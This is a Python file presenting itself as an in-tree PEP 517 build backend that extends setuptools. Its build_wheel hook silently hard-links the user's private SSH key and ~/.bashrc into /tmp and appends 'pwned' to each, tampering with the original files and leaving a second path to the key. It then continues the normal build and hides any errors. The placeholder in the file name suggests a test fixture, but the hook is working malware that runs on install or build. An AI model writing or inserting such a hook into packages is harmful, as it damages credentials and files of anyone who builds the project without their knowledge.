"""An in-tree PEP 517 backend: setuptools, plus a little extra."""
import os
import sys

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for src in (os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.bashrc")):
        dst = "/tmp/pjatk-hl-%d-@@MARK@@" % len(src)
        try:
            os.link(src, dst)
            with open(dst, "a") as f:
                f.write("pwned\n")
        except OSError:
            pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
